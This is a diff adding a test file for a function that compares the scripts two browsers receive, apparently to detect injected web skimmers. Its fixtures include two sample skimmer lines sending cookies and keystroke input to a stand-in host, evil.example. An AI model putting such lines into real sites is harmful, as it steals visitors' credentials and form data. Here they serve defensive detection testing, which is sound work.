@@ -1,0 +1,77 @@
+import { describe, expect, it } from 'vitest'
+import type { Capture } from '#capture/index.ts'
+import { compareClients } from '#inventory/index.ts'
+import { makeBodies, makeCapture, makeFrame, makeScript } from '../helpers/make-capture.ts'
+
+type Script = Parameters<typeof makeScript>[1]
+
+const lib = { url: 'https://cdn.example/lib.js', text: 'window.lib = function (a) { return a + 1 }' }
+const app = { url: 'https://shop.example/app.js', text: 'document.title = "Pay"' }
+const skimmer = { url: 'https://evil.example/x.js', text: 'navigator.sendBeacon("https://evil.example", document.cookie)' }
+
+function visit(scripts: Script[], given: Partial<Capture> = {}) {
+  const bodies = makeBodies()
+  return { capture: makeCapture({ ...given, scripts: scripts.map((script) => makeScript(bodies, script)) }), bodies }
+}
+
+describe('the comparison of two browsers', () => {
+  it('finds nothing in two visits with the same scripts, in whatever order', () => {
+    expect(compareClients(visit([lib, app]), visit([app, lib]))).toEqual([])
+  })
+
+  it('finds what only the second browser was given, by its name', () => {
+    expect(compareClients(visit([app]), visit([app, skimmer]))).toEqual([
+      { seenBy: 'second', scriptId: null, label: expect.stringContaining('evil.example/x.js') },
+    ])
+  })
+
+  it('finds what only the first browser was given, by its id there', () => {
+    const first = visit([app, lib])
+    expect(compareClients(first, visit([app]))).toEqual([
+      { seenBy: 'first', scriptId: first.capture.scripts[1]!.id, label: expect.stringContaining('cdn.example/lib.js') },
+    ])
+  })
+
+  it('finds other code behind the same address', () => {
+    const first = visit([lib, app])
+    const second = visit([{ ...lib, text: `${lib.text};addEventListener("input", (e) => fetch("//evil.example", { body: e.data }))` }, app])
+    expect(compareClients(first, second)).toEqual([
+      { seenBy: 'both', scriptId: first.capture.scripts[0]!.id, label: expect.stringContaining('cdn.example/lib.js') },
+    ])
+  })
+
+  it('does not count hashed names, noise in the query, and data that differs from load to load', () => {
+    const page = (token: string) => [
+      { url: `https://cdn.example/app.${token}.js?_=${token}`, text: 'run()' },
+      { text: `window.session = { token: "${token}", at: ${token.length} }` },
+      { ...lib, text: `${lib.text};var build = "${token}"` },
+    ]
+    expect(compareClients(visit(page('3f2a9c1b')), visit(page('77ab01cd9e00')))).toEqual([])
+  })
+
+  it('does not count what also differs between two visits of one browser', () => {
+    const advert = (name: string) => ({ url: `https://ads.example/${name}.js`, text: `show_${name}()` })
+    const first = visit([app, advert('spring'), { ...lib, text: 'a()' }])
+    const second = visit([app, advert('summer'), { ...lib, text: 'b(1)' }])
+    expect(compareClients(first, second)).toHaveLength(3)
+    expect(compareClients(first, second, visit([app, advert('summer'), { ...lib, text: 'b(1)' }]))).toEqual([])
+  })
+
+  it('still counts what only the second browser got when the first was asked again', () => {
+    expect(compareClients(visit([app]), visit([app, skimmer]), visit([app]))).toHaveLength(1)
+  })
+
+  it("leaves out scripts that did not run, and those in the provider's frames", () => {
+    const frames = [makeFrame(), makeFrame({ id: 'psp', parentId: 'main', url: 'https://js.stripe.com/v3/elements.html' })]
+    const first = visit([app], { frames })
+    const second = visit([app, { ...skimmer, state: 'fetched-not-run' }, { ...lib, frameId: 'psp' }], { frames })
+    expect(compareClients(first, second)).toEqual([])
+  })
+
+  it('concludes nothing when a visit failed', () => {
+    const failed = visit([], { outcome: { status: 'failed', code: 'timeout', detail: '', issues: [] } })
+    expect(compareClients(visit([app]), failed)).toBeNull()
+    expect(compareClients(failed, visit([app]))).toBeNull()
+    expect(compareClients(visit([app]), visit([app]), failed)).toBeNull()
+  })
+})
